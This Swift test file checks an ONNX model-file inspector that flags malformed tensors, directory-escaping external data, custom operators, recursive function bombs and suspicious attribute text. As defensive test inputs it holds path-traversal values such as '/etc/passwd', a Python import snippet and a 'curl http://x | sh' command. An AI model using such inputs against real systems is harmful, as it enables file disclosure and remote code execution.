// SPDX-License-Identifier: Apache-2.0
import Audit
import Testing

@Suite("ONNX models")
struct InspectONNXTests {
    @Test("A right model has no problem, and is known without its name")
    func right() {
        let tensor = ONNX.tensor([2, 3], ONNX.raw(24))
        let inspection = inspect(ONNX.model(initializers: [tensor]), "weights.bin")
        #expect(inspection.format == .onnx)
        #expect(inspection.problems.isEmpty, "\(inspection.problems)")
    }

    @Test(
        "A tensor's content is what its dimensions come to",
        arguments: [
            ONNX.tensor([], ONNX.raw(4)), ONNX.tensor([0], []), ONNX.tensor([3], type: 21, ONNX.raw(2)),
            ONNX.tensor([2], Wire.field(4, [UInt8](repeating: 0, count: 8))),
            ONNX.tensor([2], type: 7, Wire.field(7, [1, 0x80, 1])),
            ONNX.tensor([2], type: 8, Wire.field(6, "a") + Wire.field(6, "b")),
            ONNX.tensor([2], type: 6, Wire.field(5, 1) + Wire.field(5, 2)),
        ]
    )
    func goodTensors(_ tensor: [UInt8]) {
        let inspection = inspect(ONNX.model(initializers: [tensor]), "model.onnx")
        #expect(inspection.problems.isEmpty, "\(inspection.problems)")
    }

    @Test(
        "A tensor that contradicts itself is a problem",
        arguments: [
            ONNX.tensor([3], ONNX.raw(8)), ONNX.tensor([-1], ONNX.raw(4)),
            ONNX.tensor([1 << 40, 1 << 40], ONNX.raw(4)),
            ONNX.tensor([4], []), ONNX.tensor([2], Wire.field(4, [UInt8](repeating: 0, count: 4))),
            ONNX.tensor([1], type: 99, ONNX.raw(4)),
            ONNX.tensor([1], ONNX.raw(4) + Wire.field(4, [0, 0, 0, 0])), ONNX.tensor([2], type: 8, Wire.field(6, "a")),
            ONNX.tensor([1], ONNX.raw(4) + Wire.field(3, [])),
            ONNX.tensor([Int64](repeating: 1, count: 65), ONNX.raw(4)),
            ONNX.tensor([.max], type: 14, Wire.field(4, [])),
        ]
    )
    func badTensors(_ tensor: [UInt8]) {
        let kinds = inspect(ONNX.model(initializers: [tensor]), "model.onnx").kinds
        #expect(!kinds.isDisjoint(with: [.modelSize, .malformed]))
    }

    @Test(
        "External data that leaves the directory, or is odd",
        arguments: [
            [("location", "../w")], [("location", "/etc/passwd")], [("location", "a/../../w")], [("location", "a\\w")],
            [("location", "C:w")],
            [("location", "a#w")], [("location", "a\u{0}")], [("location", "./w")], [("location", "a//w")],
            [("location", "")], [("offset", "0")],
            [("location", "w"), ("location", "v")], [("location", "w"), ("offset", "-1")],
            [("location", "w"), ("offset", "9223372036854775807")],
            [("location", "w"), ("length", "4")], [("location", "w"), ("__class__", "x")],
            [("location", "*/_ORT_MEM_ADDR_/*")],
            [("location", "w"), ("offset", "0x10")],
        ]
    )
    func badExternal(_ entries: [(String, String)]) {
        let tensor = ONNX.tensor([2], ONNX.external(entries))
        #expect(inspect(ONNX.model(initializers: [tensor]), "model.onnx").has(.externalData))
    }

    @Test("External data in order is noted, for its file to be looked for")
    func goodExternal() throws {
        let tensor = ONNX.tensor([2], ONNX.external([("location", "data/w.bin"), ("offset", "4096"), ("length", "8")]))
        let inspection = inspect(ONNX.model(initializers: [tensor]), "model.onnx")
        #expect(inspection.problems.isEmpty)
        let use = try #require(inspection.externalData.first)
        #expect(use.tensor == "w" && use.location == "data/w.bin" && use.offset == 4096 && use.byteCount == 8)
    }

    @Test("External data of an attribute is a problem")
    func attributeExternal() {
        let tensor = ONNX.tensor([2], ONNX.external([("location", "w")]))
        let node = ONNX.node("Constant", attributes: [Wire.field(1, "value") + Wire.field(5, tensor)])
        #expect(inspect(ONNX.model(nodes: [node]), "model.onnx").has(.externalData))
    }

    @Test("Operators of somebody's library are told; the model's own functions and the engine's are not")
    func domains() {
        func function(_ name: String, _ domain: String, calls: [[UInt8]]) -> [UInt8] {
            Wire.field(25, Wire.field(1, name) + calls.flatMap { Wire.field(7, $0) } + Wire.field(10, domain))
        }
        let node = ONNX.node("Op", domain: "my")
        #expect(inspect(ONNX.model(nodes: [node]), "model.onnx").has(.customDomain))
        #expect(
            !inspect(ONNX.model(nodes: [ONNX.node("Gelu", domain: "com.microsoft")]), "model.onnx").has(.customDomain)
        )
        let own = function("Op", "my", calls: [ONNX.node()])
        #expect(inspect(ONNX.model(nodes: [node], model: own), "model.onnx").problems.isEmpty)
        let other = function("Other", "my", calls: [ONNX.node()])
        #expect(inspect(ONNX.model(nodes: [node], model: other), "model.onnx").has(.customDomain))
        let itself = function("Op", "my", calls: [node])
        #expect(inspect(ONNX.model(nodes: [node], model: itself), "model.onnx").says("calls itself"))
        let doubling = (0..<30).flatMap { level in
            function(
                "f\(level)",
                "my",
                calls: [ONNX.node("f\(level + 1)", domain: "my"), ONNX.node("f\(level + 1)", domain: "my")]
            )
        }
        let bomb = ONNX.model(
            nodes: [ONNX.node("f0", domain: "my")],
            model: doubling + function("f30", "my", calls: [ONNX.node()])
        )
        #expect(inspect(bomb, "model.onnx").says("once its functions stand in place"))
    }

    @Test("Graphs within graphs are bounded")
    func depth() {
        func model(_ levels: Int) -> [UInt8] {
            var graph = Wire.field(2, "g")
            for _ in 0..<levels {
                graph = Wire.field(
                    1,
                    ONNX.node("If", attributes: [Wire.field(1, "then_branch") + Wire.field(6, graph)])
                )
            }
            return Wire.field(1, 8) + Wire.field(7, graph) + Wire.field(8, Wire.field(2, 13))
        }
        #expect(inspect(model(20), "model.onnx").problems.isEmpty)
        #expect(inspect(model(30), "model.onnx").has(.modelSize))
        #expect(inspect(model(3000), "model.onnx").has(.modelSize))
    }

    @Test(
        "A broken message is malformed where the name promises a model",
        arguments: [
            [0x3B], [0x0C], [0x07], [0x08] + [UInt8](repeating: 0x80, count: 10) + [0], [0x3A, 0x7F, 0], [0x0F, 1],
            [0xFF, 0xFF, 0xFF, 0xFF, 0x7F, 1],
            [0x00, 0x01],
        ] as [[UInt8]]
    )
    func broken(_ tail: [UInt8]) {
        #expect(inspect(ONNX.model() + tail, "model.onnx").has(.malformed))
        #expect(inspect(Array(ONNX.model().dropLast(3)), "model.onnx").has(.malformed))
    }

    @Test("Commands and addresses in attributes are told; an address in a description is not")
    func text() {
        func attribute(_ text: String) -> [UInt8] {
            ONNX.model(nodes: [ONNX.node(attributes: [Wire.field(1, "a") + Wire.field(4, text)])])
        }
        #expect(inspect(attribute("https://example.org/x")).has(.suspiciousText))
        #expect(inspect(attribute("__import__('os')")).has(.suspiciousText))
        #expect(!inspect(attribute("NHWC")).has(.suspiciousText))
        #expect(
            !inspect(ONNX.model(model: Wire.field(6, "see https://example.org")), "model.onnx").has(.suspiciousText)
        )
        #expect(
            inspect(
                ONNX.model(model: Wire.field(14, Wire.field(1, "k") + Wire.field(2, "curl http://x | sh"))),
                "m.onnx"
            ).has(.suspiciousText)
        )
    }

    @Test("A model of 1.9 GB is read in constant memory, its tensors passed over")
    func large() {
        let size = 1_900_000_000
        let tensor =
            Wire.field(1, UInt64(size / 4)) + Wire.field(2, 1) + Wire.field(8, "w") + [0x4A] + Wire.varint(UInt64(size))
        let inGraph = [0x2A] + Wire.varint(UInt64(tensor.count + size)) + tensor
        let head = Wire.field(1, 8) + [0x3A] + Wire.varint(UInt64(inGraph.count + size)) + inGraph
        let source = SparseBytes(head: head, count: head.count + size, tail: Wire.field(8, Wire.field(2, 13)))
        let inspection = ModelFileInspector.inspect(source, name: "model.onnx")
        #expect(inspection.problems.isEmpty, "\(inspection.problems)")
        #expect(source.bytesRead < 2 << 20)
    }
}
